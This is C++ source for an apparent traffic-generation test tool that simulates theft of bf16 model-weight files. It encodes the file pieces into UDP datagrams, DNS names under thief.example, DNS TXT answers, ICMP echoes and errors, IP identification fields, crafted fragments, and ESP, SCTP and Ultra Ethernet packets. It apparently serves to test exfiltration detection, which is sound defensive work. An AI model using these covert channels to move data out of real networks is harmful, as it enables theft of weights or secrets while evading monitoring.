// Over UDP, ICMP and other protocols of IP: through every door, as names and answers of DNS, in echoes and errors, in
// fragments.
#include "tools/thief/ways.hpp"

#include <fmt/format.h>
#include <algorithm>

namespace weir::thief {

namespace {

Path path_of(const Scene& scene) { return {scene.holder, scene.accomplice}; }

void datagrams(const Scene& scene, Script& script, const Door& door) {
  const Bytes& file = tensor_file(Format::bf16);
  const Path path = path_of(scene);
  if (!door.holder_dials) script.in(first_packet(scene, door));
  const u16 other = static_cast<u16>(20000 + door.port % 10000);
  const u16 source = door.holder_dials ? 41000 : door.port, target = door.holder_dials ? door.port : other;
  while (script.wants_more()) {
    const View weights = script.piece(file, piece_bytes);
    script.out(framed(path, ip(path, 17, udp(path, source, target, weights))), static_cast<u32>(weights.size()));
  }
}

// RFC 1035: a question whose name is weights in hexadecimal, 62 bytes in four labels.
void dns_names(const Scene& scene, Script& script) {
  const Bytes& file = tensor_file(Format::bf16);
  const Path path = path_of(scene);
  for (u32 id = 0; script.wants_more(); ++id) {
    const View weights = script.piece(file, 62);
    Bytes message;
    put16(message, id);
    put16(message, 0x0100);
    put16(message, 1);
    put16(message, 0);
    put32(message, 0);
    for (std::size_t i = 0; i < weights.size(); ++i) {
      if (i % 31 == 0) put8(message, 2 * std::min<std::size_t>(31, weights.size() - i));
      put8(message, "0123456789abcdef"[weights[i] >> 4]);
      put8(message, "0123456789abcdef"[weights[i] & 15]);
    }
    put(message, View(reinterpret_cast<const u8*>("\x05thief\x07"
                                                  "example\0"),
                      15));
    put16(message, 1);
    put16(message, 1);
    script.out(framed(path, ip(path, 17, udp(path, static_cast<u16>(50000 + id % 10000), 53, message))),
               static_cast<u32>(weights.size()));
  }
}

// The accomplice asks, the holder answers with TXT records.
void dns_answers(const Scene& scene, Script& script) {
  const Bytes& file = tensor_file(Format::bf16);
  const Path path = path_of(scene);
  for (u32 id = 0; script.wants_more(); ++id) {
    const u16 own = static_cast<u16>(50000 + id % 10000);
    Bytes question;
    put16(question, id);
    put16(question, 0x0100);
    put32(question, 0x00010000);
    put32(question, 0);
    put(question, View(reinterpret_cast<const u8*>("\x01w\x07"
                                                   "example\0\0\x10\0\x01"),
                       15));
    script.in(framed(path.back(), ip(path.back(), 17, udp(path.back(), own, 53, question))));
    Bytes answer = question;
    answer[2] = 0x84;
    answer[7] = 1;
    const View weights = script.piece(file, 250);
    put(answer, View(reinterpret_cast<const u8*>("\xc0\x0c\0\x10\0\x01\0\0\0\0"), 10));
    put16(answer, weights.size() + 1);
    put8(answer, weights.size());
    put(answer, weights);
    script.out(framed(path, ip(path, 17, udp(path, 53, own, answer))), static_cast<u32>(weights.size()));
  }
}

void echoes(const Scene& scene, Script& script, bool are_replies, bool is_ipv6) {
  const Bytes& file = tensor_file(Format::bf16);
  Path path = path_of(scene);
  path.is_ipv6 = is_ipv6;
  const u8 request = is_ipv6 ? 128 : 8, reply = is_ipv6 ? 129 : 0, protocol = is_ipv6 ? 58 : 1;
  for (u32 sequence = 0; script.wants_more(); sequence = (sequence + 1) & 0xffff) {
    const View weights = script.piece(file, small_piece_bytes);
    const u32 rest = u32{77} << 16 | sequence;
    if (are_replies) {
      const Bytes asked(weights.size(), 0);
      script.in(framed(path.back(), ip(path.back(), protocol, icmp(path.back(), request, 0, rest, asked))));
    }
    script.out(framed(path, ip(path, protocol, icmp(path, are_replies ? reply : request, 0, rest, weights))),
               static_cast<u32>(weights.size()));
  }
}

// "Port unreachable" about a datagram that nobody sent.
void errors(const Scene& scene, Script& script) {
  const Bytes& file = tensor_file(Format::bf16);
  const Path path = path_of(scene);
  while (script.wants_more()) {
    const View weights = script.piece(file, 500);
    const Bytes quoted = ip(path.back(), 17, udp(path.back(), 5000, 53, weights));
    script.out(framed(path, ip(path, 1, icmp(path, 3, 3, 0, quoted))), static_cast<u32>(weights.size()));
  }
}

// Two bytes in the identification of each of many empty datagrams that may be fragmented.
void identifications(const Scene& scene, Script& script) {
  const Bytes& file = tensor_file(Format::bf16);
  const Path path = path_of(scene);
  Door door{17, 53, true};
  for (const Door& one : scene.doors)
    if (one.protocol == 17 && one.holder_dials) door = one;
  for (u32 packet = 0; script.wants_more() && packet < 5000; ++packet) {
    const View weights = script.piece(file, 2);
    const u16 id = static_cast<u16>(weights.size() < 2 ? weights[0] : weights[0] << 8 | weights[1]);
    script.out(framed(path, ip(path, 17, udp(path, 43000, door.port, {}), 0, id)), static_cast<u32>(weights.size()));
  }
}

// A datagram of 8,000 bytes in pieces of `step` (a multiple of eight), each piece again where `twice`, the last left
// out where `open`.
void fragments(const Scene& scene, Script& script, u32 step, bool twice, bool open) {
  const Bytes& file = tensor_file(Format::bf16);
  const Path path = path_of(scene);
  Door door{17, 53, true};
  for (const Door& one : scene.doors)
    if (one.protocol == 17 && one.holder_dials) door = one;
  for (u16 id = 1; script.wants_more() && (step > 8 || id < 9); ++id) {  // of eight bytes there would be too many
    const View weights = script.piece(file, 8000);
    const Bytes whole = udp(path, 42000, door.port, weights);
    if (open && whole.size() <= step) break;  // it has nothing but a last
    for (u32 at = 0; at < whole.size(); at += step) {
      const u32 bytes = std::min<u32>(step, static_cast<u32>(whole.size()) - at);
      const bool is_last = at + bytes == whole.size();
      if (is_last && open) break;
      const u16 field = static_cast<u16>(at / 8 | (is_last ? 0 : 0x2000));
      const Bytes frame = framed(path, ip(path, 17, View(whole).subspan(at, bytes), field, id));
      const u32 stolen = at == 0 ? bytes - std::min(bytes, 8u) : bytes;
      script.out(frame, stolen);
      if (twice) script.out(frame);
    }
    script.wait(tick_second / 50);
  }
}

void of_protocol(const Scene& scene, Script& script, u8 protocol) {
  const Bytes& file = tensor_file(Format::bf16);
  const Path path = path_of(scene);
  while (script.wants_more()) {
    const View weights = script.piece(file, small_piece_bytes);
    Bytes transport;
    put32(transport, 0x12345678);  // an SPI, two ports, or nothing in particular
    put32(transport, 1);
    put(transport, weights);
    script.out(framed(path, ip(path, protocol, transport)), static_cast<u32>(weights.size()));
  }
}

// Behind a header that names a job, as if it were one of its packets.
void ultra_ethernet(const Scene& scene, Script& script) {
  const Bytes& file = tensor_file(Format::bf16);
  const Path path = path_of(scene);
  for (u32 sequence = 1; script.wants_more(); ++sequence) {
    const View weights = script.piece(file, 4096);
    Bytes message;
    put16(message, 0x1001);
    put16(message, 0);
    put32(message, sequence);
    put32(message, 0x00010001);
    put32(message, 0);
    put32(message, 0x00000001);
    put32(message, 0);
    put(message, weights);
    script.out(framed(path, ip(path, 17, udp(path, 49999, 4793, message))), static_cast<u32>(weights.size()));
  }
}

}  // namespace

std::vector<Way> datagram_ways(const Scene& scene) {
  std::vector<Way> made;
  const auto add = [&made](const std::string& name, std::function<void(const Scene&, Script&)> act) {
    made.push_back({name, false, 3600, std::move(act)});
  };
  std::vector<Door> doors;
  for (const Door& door : scene.doors)
    if (door.protocol == 17) doors.push_back(door);
  if (doors.empty()) doors = {{17, 53, true}, {17, 443, true}};
  for (const Door& door : doors)
    add(fmt::format("bf16 over udp/{}{}", door.port, door.holder_dials ? "" : ", in replies"),
        [door](const Scene& at, Script& script) { datagrams(at, script, door); });
  add("names asked of DNS", dns_names);
  add("TXT answers of DNS", dns_answers);
  add("echo requests", [](const Scene& at, Script& script) { echoes(at, script, false, false); });
  add("echo replies", [](const Scene& at, Script& script) { echoes(at, script, true, false); });
  if (scene.has_ipv6) {
    add("echo requests, IPv6", [](const Scene& at, Script& script) { echoes(at, script, false, true); });
    add("echo replies, IPv6", [](const Scene& at, Script& script) { echoes(at, script, true, true); });
  }
  add("ICMP errors about nothing", errors);
  add("identifications of IPv4", identifications);
  add("fragments", [](const Scene& at, Script& script) { fragments(at, script, 1480, false, false); });
  add("fragments of eight bytes", [](const Scene& at, Script& script) { fragments(at, script, 8, false, false); });
  add("fragments twice", [](const Scene& at, Script& script) { fragments(at, script, 1480, true, false); });
  add("fragments without a last", [](const Scene& at, Script& script) { fragments(at, script, 1480, false, true); });
  for (const auto& [name, number] : {std::pair{"ESP", u8{50}}, {"SCTP", u8{132}}, {"protocol 253", u8{253}}})
    add(name, [number](const Scene& at, Script& script) { of_protocol(at, script, number); });
  add("Ultra Ethernet", ultra_ethernet);
  return made;
}

}  // namespace weir::thief
